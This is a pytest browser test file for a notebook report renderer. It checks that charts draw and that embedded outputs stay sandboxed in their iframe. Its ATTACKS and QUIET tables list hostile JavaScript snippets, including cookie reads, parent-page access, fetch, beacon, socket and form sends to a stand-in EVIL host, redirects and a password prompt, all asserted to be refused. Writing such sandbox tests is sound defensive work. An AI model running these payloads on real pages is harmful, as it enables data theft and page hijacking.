"""Interactive outputs in a real browser: they are drawn, and what they bring reaches nothing beyond their frame."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from typing import TYPE_CHECKING, Any

import pytest

from caderno.report.live import library

if TYPE_CHECKING:
    from playwright.sync_api import Frame

pytestmark = pytest.mark.browser

Show = Callable[..., "Frame"]


@pytest.fixture
def show(visit: Any, samples: ModuleType, tmp_path: Path) -> Show:
    """Open a page with one output and return its frame, when that has run; the page is at `frame.page`."""

    def make(*bundles: dict[str, Any]) -> Frame:
        page = tmp_path / "page.html"
        cell = samples.code("#| fig-cap: A figure\nshow()", *map(samples.shown, bundles))
        page.write_text(samples.render_task(samples.record(), samples.notebook(cell)), encoding="utf-8")
        opened = visit(page).page
        opened.locator("figure.live").scroll_into_view_if_needed()
        opened.wait_for_selector("iframe[style*=height]")  # it told its height: its scripts have run
        return next(frame for frame in opened.frames if frame != opened.main_frame)

    return make


def test_plotly_draws_without_a_request(show: Show) -> None:
    import plotly.express as px

    figure = px.scatter(x=[1, 2, 3], y=[3, 1, 2]).to_plotly_json()
    frame = show({"application/vnd.plotly.v1+json": figure, "text/plain": "Figure"})
    assert frame.locator(".scatterlayer path.point").count() == 3


def test_altair_draws_without_the_network_that_it_asks_for(show: Show) -> None:
    import altair
    import pandas as pd

    table = pd.DataFrame({"a": ["x", "y"], "b": [3, 4]})
    html = altair.Chart(table).mark_bar().encode(x="a", y="b")._repr_mimebundle_()
    frame = show(html[0] if isinstance(html, tuple) else html)
    frame.wait_for_selector("canvas, svg")
    assert frame.locator(".vega-embed").count() == 1


def test_vega_lite_draws(show: Show) -> None:
    values = [{"a": "x", "b": 3}, {"a": "y", "b": 4}]
    encoding = {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}}
    spec = {"data": {"values": values}, "mark": "bar", "encoding": encoding}
    frame = show({"application/vnd.vegalite.v5+json": spec, "text/plain": "Chart"})
    frame.wait_for_selector("canvas, svg")


def test_bokeh_draws(show: Show) -> None:
    from bokeh.embed.notebook import notebook_content
    from bokeh.plotting import figure

    plot = figure(width=300, height=200)
    plot.line([1, 2, 3], [3, 1, 2])
    script, div, _ = notebook_content(plot)
    exec_ = {"application/javascript": script, "application/vnd.bokehjs_exec.v0+json": ""}
    frame = show({"text/html": div}, exec_)
    frame.wait_for_selector(".bk-Figure canvas")


def test_a_library_stands_once_in_a_page_however_many_want_it(samples: ModuleType) -> None:
    plot = samples.shown({"application/vnd.plotly.v1+json": {"data": []}, "text/plain": "x"})
    cells = [samples.code("1", plot), samples.code("2", plot)]
    one, two = (samples.render_task(samples.record(), samples.notebook(*cells[:n])) for n in (1, 2))
    assert one.count(library("plotly")) == two.count(library("plotly")) == 1
    assert len(one) < 2_500_000
    assert library("plotly") not in samples.render_task(samples.record(), samples.story())


ATTACKS = {
    "reads the page": "void parent.document.body",
    "reads a cookie": "void document.cookie",
    "keeps something": "localStorage.setItem('a', 'b')",
    "leads the page away": "top.location = 'EVIL/top'",
    "asks by fetch": "await fetch('EVIL/fetch', {mode: 'no-cors'})",
    "opens a window": "if (!window.open('EVIL/popup')) throw 1",
    "asks for a worker": "await new Promise((ok, no) => { const w = new Worker('EVIL/w.js'); w.onerror = no; })",
    "speaks by WebRTC": "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]})",
    "asks for a password": "if (prompt('password?') === null) throw 1",
}
QUIET = {
    "shows a picture": "const i = new Image(); i.src = 'EVIL/i.png'; document.body.append(i)",
    "loads a script": "const s = document.createElement('script'); s.src = 'EVIL/s.js'; document.body.append(s)",
    "loads a style": "document.head.innerHTML += '<link rel=stylesheet href=EVIL/c><style>@import \"EVIL/d\"</style>'",
    "leads itself away": "setTimeout(() => { location = 'EVIL/self' }, 200)",
    "sends a form": "root.insertAdjacentHTML('afterend', '<form action=EVIL/f></form>'); document.forms[0].submit()",
    "frames another": "document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/frame></iframe>')",
    "sends a beacon": "navigator.sendBeacon('EVIL/beacon', 'x')",
    "refreshes": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=EVIL/meta\">'",
    "opens a socket": "new WebSocket('EVIL/socket'.replace('http', 'ws'))",
    "follows a link": "const a = document.createElement('a'); a.href = 'EVIL/a'; a.target = '_top'; a.click()",
    "downloads": "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; a.click()",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_frame_may_not_do_fails(attack: str, show: Show, evil: tuple[str, list[str]]) -> None:
    script = ATTACKS[attack].replace("EVIL", evil[0])
    say = "() => said.textContent = 'done', () => said.textContent = 'refused'"
    html = f"<p id=said>nothing</p><script>(async () => {{ {script} }})().then({say})</script>"
    frame = show({"text/html": html})
    frame.wait_for_function("document.getElementById('said').textContent !== 'nothing'")
    assert frame.locator("#said").inner_text() == "refused"
    assert evil[1] == []


@pytest.mark.parametrize("attack", QUIET)
def test_what_a_frame_tries_leads_nowhere(attack: str, show: Show, evil: tuple[str, list[str]]) -> None:
    frame = show({"text/html": f"<p>shown</p><script>{QUIET[attack].replace('EVIL', evil[0])}</script>"})
    page = frame.page
    page.wait_for_timeout(400)
    assert evil[1] == []
    assert page.title() == "compare · flights"
    assert page.url.startswith("file:")
    assert len(page.context.pages) == 1


def test_a_frame_cannot_grow_over_the_page(show: Show) -> None:
    html = "<div style='height: 90000px'>tall</div><script>parent.postMessage({height: 1e9}, '*')</script>"
    box = show({"text/html": html}).page.locator("iframe").bounding_box()
    assert box
    assert box["height"] <= 1600


def test_the_script_of_frames_runs_nothing_where_it_is_not_shut_in(
    visit: Any, samples: ModuleType, tmp_path: Path
) -> None:
    """Should a hole in the sanitizer let an output put that script into the page itself, it must stay idle."""
    shown = samples.shown({"text/html": "<script>document.title = 'pwned'</script>"})
    html = samples.render_task(samples.record(), samples.notebook(samples.code("1", shown)))
    script = html.partition('id="in-frame">')[2].partition("</script>")[0]
    hole = f"<div id=root></div><script>{script}</script><iframe srcdoc='{script}'></iframe>"
    data = "{libraries: [], before: 'document.title = `pwned`', html: '', after: ''}"
    page = tmp_path / "page.html"
    page.write_text(html.replace("<footer", hole + "<footer", 1), encoding="utf-8")
    opened = visit(page).page
    opened.evaluate(f"postMessage({data}, '*')")
    opened.wait_for_timeout(300)
    assert opened.title() == "compare · flights"
